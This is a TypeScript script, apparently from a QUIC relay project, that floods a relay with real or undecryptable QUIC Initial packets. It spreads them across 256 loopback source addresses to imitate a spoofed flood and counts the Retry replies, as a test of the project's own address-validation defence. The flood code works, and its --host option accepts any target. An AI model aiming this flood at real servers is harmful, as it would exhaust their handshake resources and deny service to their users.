/**
 * A flood of QUIC Initials against a relay, for the address-validation tests and measurements:
 * `node scripts/attack-initials.ts --port 4443 [--host 127.0.0.1] [--count 100000] [--seconds 15]
 * [--sources 256] [--garbage]`.
 *
 * Every datagram is a real client Initial (a ClientHello built by quiche's client, with its own
 * random DCID, so each one makes a server without address validation start a handshake: keys,
 * certificate signature, a full server flight). They leave from many sockets; against 127.0.0.1
 * the sockets bind to different 127.x.y.z addresses, so each looks like another host (spoofed
 * sources, as a real flood would use). Nothing is answered: the "clients" never finish a handshake
 * nor follow a Retry. `--garbage` sends 1200-byte Initials that do not decrypt instead.
 */
import dgram from "node:dgram";
import { newCid } from "../src/quic/cid.ts";
import { buildClientConfig, resolveLimits } from "../src/quic/config.ts";
import { loadQuiche } from "../src/quic/native.ts";

export interface FloodOptions {
	host?: string;
	port: number;
	/** Datagrams to send. */
	count: number;
	/** Spread over this long (ms). */
	durationMs: number;
	/** Distinct source sockets (addresses when the target is loopback). */
	sources?: number;
	/** Undecryptable Initials instead of real ClientHellos. */
	garbage?: boolean;
	alpn?: string;
}

export interface FloodResult {
	sent: number;
	/** Datagrams the relay sent back (Retry packets or handshake flights). */
	answers: number;
	/** Of those, Retry packets. */
	retries: number;
	elapsedMs: number;
}

/** Sends the flood; resolves when the last datagram left (answers counted until then). */
export async function floodInitials(options: FloodOptions): Promise<FloodResult> {
	const host = options.host ?? "127.0.0.1";
	const quiche = loadQuiche();
	const config = buildClientConfig([options.alpn ?? "moq-lite-05"], false, null, resolveLimits(undefined));
	const loopback = host === "127.0.0.1";
	const sockets: dgram.Socket[] = [];
	const result: FloodResult = { sent: 0, answers: 0, retries: 0, elapsedMs: 0 };
	const sourceCount = options.sources ?? 256;
	for (let i = 0; i < sourceCount; i++) {
		const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
		const bindHost = loopback ? `127.${1 + ((i >> 8) & 0x7f)}.${i & 0xff}.${1 + (i % 250)}` : undefined;
		await new Promise<void>((resolve) => socket.bind(0, bindHost, () => resolve()));
		socket.on("message", (msg) => {
			result.answers++;
			// Long header, type bits 3 (QUIC v1): a Retry.
			if ((msg[0] & 0xb0) === 0xb0) result.retries++;
		});
		socket.on("error", () => {});
		sockets.push(socket);
	}
	const buf = Buffer.alloc(1500);
	const remote = { host, port: options.port };
	const started = performance.now();
	const batch = 50;
	for (let sent = 0; sent < options.count; ) {
		const due = started + (options.durationMs * sent) / options.count;
		const wait = due - performance.now();
		if (wait > 1) await new Promise((r) => setTimeout(r, wait));
		for (let b = 0; b < batch && sent < options.count; b++, sent++) {
			const socket = sockets[sent % sockets.length];
			const local = socket.address();
			let length: number;
			if (options.garbage) {
				length = 1200;
				buf.fill(0, 0, length);
				buf[0] = 0xc0;
				buf.writeUInt32BE(1, 1);
				buf[5] = 16;
				newCid(sent & 0xff).copy(buf, 6);
				buf[22] = 0;
				buf[23] = 0; // token length
				buf.writeUInt16BE(0x4000 | 1100, 24);
			} else {
				const conn = quiche.Connection.connect(
					null,
					newCid(sent & 0xff),
					{ host: local.address, port: local.port },
					remote,
					config,
				);
				const out = conn.send(buf);
				if (out === null) continue;
				length = out[0];
			}
			// A copy: dgram reads the buffer after this call returns.
			socket.send(Buffer.from(buf.subarray(0, length)), options.port, host);
			result.sent++;
		}
	}
	// Let the sends and the first answers drain.
	await new Promise((r) => setTimeout(r, 200));
	result.elapsedMs = performance.now() - started;
	for (const socket of sockets) socket.close();
	return result;
}

if (import.meta.main) {
	const args = process.argv.slice(2);
	const arg = (name: string, fallback: string) => {
		const i = args.indexOf(`--${name}`);
		return i >= 0 ? args[i + 1] : fallback;
	};
	const port = Number(arg("port", "4443"));
	const res = await floodInitials({
		host: arg("host", "127.0.0.1"),
		port,
		count: Number(arg("count", "100000")),
		durationMs: Number(arg("seconds", "15")) * 1000,
		sources: Number(arg("sources", "256")),
		garbage: args.includes("--garbage"),
	});
	console.log(JSON.stringify(res));
}
